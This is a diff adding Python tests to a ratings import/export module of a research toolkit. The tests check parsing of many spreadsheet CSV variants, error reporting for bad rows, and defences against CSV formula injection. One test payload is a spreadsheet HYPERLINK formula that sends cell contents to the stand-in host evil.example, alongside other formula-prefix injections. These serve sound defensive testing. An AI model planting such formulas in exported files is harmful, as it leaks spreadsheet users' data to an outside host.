@@ -1,5 +1,6 @@
 """Ratings out and in: nothing changes on the way, and every bad row is told at once."""
 
+import csv
 import sys
 from collections.abc import Callable
 from datetime import UTC, datetime
@@ -8,11 +9,13 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
+from studykit.clips.cells import CellRow, read_cells, rewrite
 from studykit.errors import MissingPackageError, StudyError
 from studykit.ratings import RATING_COLUMNS
 from studykit.ratings.exchange import BadRowsError, export_ratings, import_ratings
 from studykit.ratings.simulate import simulate_into, simulate_ratings
 from studykit.ratings.store import Store, open_store
+from studykit.report.blocks import Table
 from studykit.study.file import Study, load_study
 
 HEADER = "rater,cell,criterion,value"
@@ -109,6 +112,94 @@ def test_a_spreadsheets_csv_is_read_too(
     assert list(table["value"]) == [4, 2]
     assert [moment.hour for moment in table["answered_at"]] == [15, 13]
     assert table["seconds"][0] == 7.5
+
+
+TABLE = (
+    "rater;cell;criterion;value;seconds\n"
+    "r-1a1;anna__talk__copy;jitter;4;7.5\n"
+    "r-1a1;anna__turn__copy;jitter;2;\n"
+)
+SPREADSHEETS = {
+    "semicolons": TABLE.encode(),
+    "a mark of order": b"\xef\xbb\xbf" + TABLE.encode(),
+    "a line that names the divider": b"sep=;\r\n" + TABLE.replace("\n", "\r\n").encode(),
+    "another that does": b"\xef\xbb\xbfsep=|\n" + TABLE.replace(";", "|").encode(),
+    "tabs": TABLE.replace(";", "\t").encode(),
+    "UTF-16": TABLE.replace(";", "\t").encode("utf-16"),
+    "UTF-16, the other way": b"\xfe\xff" + TABLE.encode("utf-16-be"),
+    "decimal commas": TABLE.replace("7.5", "7,5").replace(";4;", ";4,0;").encode(),
+    "decimal commas among commas": TABLE.replace("7.5", '"7,5"').replace(";", ",").encode(),
+    "empty columns after it": TABLE.replace("\n", ";;\n").encode(),
+    "empty rows after it": TABLE.encode() + b";;;;\n\n;;;;\n",
+    "quoted columns": (
+        "".join(f'"{c}";' for c in TABLE.split("\n")[0].split(";"))[:-1]
+        + TABLE[TABLE.index("\n") :]
+    ).encode(),
+    "spaces around": TABLE.replace(";", " ; ").encode(),
+    "old Mac lines": TABLE.replace("\n", "\r").encode(),
+}
+
+
+@pytest.mark.parametrize("content", SPREADSHEETS.values(), ids=SPREADSHEETS)
+@pytest.mark.parametrize("suffix", ["csv", "tsv"])
+def test_every_spreadsheets_table_is_read(
+    study: Study, store: Store, tmp_path: Path, content: bytes, suffix: str
+) -> None:
+    (tmp_path / f"table.{suffix}").write_bytes(content)
+    assert not import_ratings(store, study, tmp_path / f"table.{suffix}").bad
+    table = store.ratings(study.name)
+    assert list(table["value"]) == [4, 2]
+    assert list(table["cell"]) == ["anna__talk__copy", "anna__turn__copy"]
+    assert table["seconds"][0] == 7.5 and table["seconds"].isna()[1]
+
+
+@pytest.mark.parametrize(
+    ("lines", "line", "reason"),
+    [
+        (["sep=;", "rater;cell;criterion;value", "r-1a1;anna__talk__copy;jitter;9"], 3, "value"),
+        (["rater;cell;criterion;value;;", "r-1a1;anna__talk__copy;jitter;4;x;"], 2, "more values"),
+        ([HEADER, "", "r-1a1,anna__talk__copy,jitter,4.000,5"], 3, "more values"),
+        ([HEADER, 'r-1a1,anna__talk__copy,jitter,"1.000,5"'], 2, "value must be a whole"),
+    ],
+)
+def test_a_spreadsheets_bad_row_is_told_with_its_line(
+    study: Study, store: Store, written: Callable[..., Path], lines, line, reason
+) -> None:
+    with pytest.raises(BadRowsError) as refused:
+        import_ratings(store, study, written(*lines))
+    assert refused.value.rows[0].line == line and reason in refused.value.rows[0].reason
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "'=1"])
+def test_no_text_that_leaves_us_is_a_formula(study: Study, tmp_path: Path, text: str) -> None:
+    """In the table of ratings, of cells, of the report: and it comes back as it was."""
+    ratings = simulate_ratings(study, 1).head(2)
+    for column in ("clip_hash", "session", "other"):
+        ratings[column] = text
+    export_ratings(ratings, tmp_path / "a.csv")
+    row = CellRow(*["a__b__c"] * 6, status="failed", error=text.strip(), note=text.strip())
+    rewrite(tmp_path / "cells.csv", [row])
+    assert read_cells(tmp_path / "cells.csv")["a__b__c"] == row
+    shown = pd.DataFrame({"text": [text], "number": [-0.5]})
+    Table("b", "A table", shown, shown).write(tmp_path)
+    for name in ("a.csv", "cells.csv", "b.csv"):
+        for line in csv.reader((tmp_path / name).read_text(encoding="utf-8").splitlines()):
+            for value in line:
+                assert not value.lstrip().startswith(("=", "+", "@", "＝", "-2"))
+    assert ",-0.5" in (tmp_path / "b.csv").read_text()
+
+
+@pytest.mark.parametrize("column", ["clip_hash", "study_hash"])
+def test_a_hash_that_is_none_is_not_taken(
+    study: Study, store: Store, written: Callable[..., Path], column: str
+) -> None:
+    quoted = FORMULA.replace('"', '""')
+    path = written(f"{HEADER},{column}", f'r-1a1,anna__talk__copy,jitter,4,"{quoted}"')
+    with pytest.raises(BadRowsError, match=f"{column} must be a hash"):
+        import_ratings(store, study, path)
 
 
 BAD = {
